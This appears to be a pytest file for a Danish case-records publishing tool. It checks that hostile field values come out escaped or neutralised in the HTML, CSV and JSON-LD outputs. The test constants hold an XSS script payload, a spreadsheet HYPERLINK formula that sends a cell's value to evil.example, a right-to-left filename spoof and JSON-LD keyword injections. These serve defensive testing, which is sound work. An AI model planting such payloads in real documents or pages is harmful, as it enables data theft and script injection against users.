"""Hostile strings from a source come out escaped or neutralised in every format."""

from __future__ import annotations

import json

import orjson
import pytest

from tests.conftest import Builder, static_profile

SCRIPT = "<script>alert('x')</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik her")'
RLO = "Faktura \u202egnp.exe"
CONTROL = "før\x00\x07\x1b[31mefter"
UNIT = {"id": "U1", "name": "Borgerservice", "email": "a@b.dk"}


def case(native: str, **fields: object) -> dict[str, object]:
    base = {
        "id": native,
        "caseNumber": native,
        "title": "Sag",
        "kleCode": "32.06.08",
        "kleTitle": "Boligstøtte",
        "progressState": "Oplyst",
        "openedDate": "2024-01-02",
        "changedDate": "2024-03-01",
        "responsibleUnit": "U1",
        "role": "Primær part",
    }
    return base | fields


@pytest.fixture
def hostile(build: Builder):  # type: ignore[no-untyped-def]
    records = {
        "Case": [
            case("K1", title=SCRIPT),
            case("K2", title=FORMULA, caseNumber="+1-2"),
            case("K3", title=RLO),
            case("K4", title=CONTROL),
            case("K5", title="x" * 1_000_000),  # 1 MB field: over maxLength, rejected
            case("K6", **{"@context": {"@vocab": "http://evil.example/"}}),
            case("K7", **{"@id": "http://evil.example/me", "@type": "Evil"}),
            case("K8", kleTitle="@context"),  # a keyword as a plain value is just text
        ],
        "OrganisationUnit": [UNIT | {"openingHours": SCRIPT}],
    }
    return build(static_profile(records))


def test_jsonld_keeps_values_exact_and_refuses_keywords(hostile) -> None:  # type: ignore[no-untyped-def]
    graph = orjson.loads(hostile.read("data/sager.jsonld"))["@graph"]
    titles = {r["caseNumber"]: r["title"] for r in graph}
    assert titles["K1"] == SCRIPT and titles["+1-2"] == FORMULA
    assert titles["K3"] == RLO and titles["K4"] == CONTROL
    assert "K5" not in titles and "K6" not in titles and "K7" not in titles
    assert all(not k.startswith("@") for r in graph for k in r)
    # Control characters are escaped in the file itself.
    assert b"\\u0000" in hostile.read("data/sager.jsonld")
    result = next(r for r in hostile.result.datasets if r.record_type == "Case")
    assert result.rejected == 3
    assert result.reasons["title: maxLength"] == 1
    # K6 and K7 each carry JSON-LD keywords as fields, which no record type allows.
    assert result.reasons["(record): additionalProperties"] == 2


def test_html_escapes_markup_and_neutralises_controls(hostile) -> None:  # type: ignore[no-untyped-def]
    for page in ("index.html", "index.en.html", "about.html"):
        html = hostile.text(page)
        assert "<script" not in html and "<img" not in html
        assert "\u202e" not in html and "\x00" not in html and "\x1b" not in html
    index = hostile.text("index.html")
    assert "&lt;script&gt;" in index
    assert "før\ufffd\ufffd\ufffd[31mefter" in index


def test_csv_neutralises_formulas_and_controls(hostile) -> None:  # type: ignore[no-untyped-def]
    rows = hostile.csv_rows("data/sager.csv")
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert "'+1-2" in cells
    assert not any(c[:1] in "=+-@\t\r" for c in cells if c)
    raw = hostile.read("data/sager.csv").decode("utf-8-sig")
    assert "\u202e" not in raw and "\x00" not in raw
    assert SCRIPT in cells  # markup is harmless in CSV and kept as text


def test_package_reports_what_was_left_out(hostile) -> None:  # type: ignore[no-untyped-def]
    catalogue = json.loads(hostile.text("package.jsonld"))
    cases = next(d for d in catalogue["dataset"] if d["id"].endswith(":sager"))
    assert cases["rejectedCount"] == 3
    assert "3 poster kunne ikke vises" in hostile.text("index.html")
    assert len(hostile.read("index.html")) < 200_000
